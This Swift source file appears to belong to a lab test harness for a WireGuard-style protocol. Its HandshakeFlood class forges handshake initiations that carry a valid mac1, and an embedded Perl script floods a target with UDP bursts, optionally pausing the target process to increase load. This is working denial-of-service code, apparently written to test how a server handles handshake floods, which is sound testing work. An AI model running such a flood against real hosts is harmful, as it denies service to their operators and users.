import Crypto
import Lab
import Wire

/// Handshake initiations with a right mac1 and nothing else right, many times a second: what anybody can send who knows the
/// target's public key. It ends by itself after a minute.
final class HandshakeFlood {
    private let program: Program

    /// - Parameter victim: the target's process, stopped while each burst is sent. A fast target then meets all of the burst
    ///   at once and is under load, though the flood is a light one.
    init(from host: Host, to target: Endpoint, publicKey: Bytes32, burst: Int = 300, stopping victim: Int32? = nil)
        throws(LabError)
    {
        let message = Self.message(to: publicKey).hexadecimal
        program = try host.start(
            "perl", "-MSocket", "-e", Self.script, "\(target.address)", "\(target.port)", message, "\(burst)",
            "\(victim ?? 0)", log: "flood")
        try program.waitForLog("bursts")
    }

    var isRunning: Bool { program.isRunning }

    func stop() { program.stop() }

    /// One that costs the receiver a Diffie–Hellman to refuse, unless it asks for a cookie first.
    static func message(to publicKey: Bytes32) -> [UInt8] {
        let key = BLAKE2s.hash(Array("mac1----".utf8), publicKey.bytes).bytes
        let body = [1, 0, 0, 0] + (0..<112).map { UInt8($0) }
        return body + BLAKE2s.mac16(key: key, body.span) + Array(repeating: 0, count: 16)
    }

    private static let script = """
        my ($address, $port, $message, $burst, $victim) = @ARGV;
        socket(my $socket, AF_INET, SOCK_DGRAM, 0) or die "socket: $!";
        my $target = pack_sockaddr_in($port, inet_aton($address));
        $SIG{TERM} = sub { kill CONT => $victim if $victim; exit };
        $| = 1;
        for (1 .. 600) {
            kill STOP => $victim if $victim;
            send($socket, pack("H*", $message), 0, $target) for 1 .. $burst;
            kill CONT => $victim if $victim;
            print "bursts\\n" if $_ == 1;
            select(undef, undef, undef, 0.1);
        }
        """
}
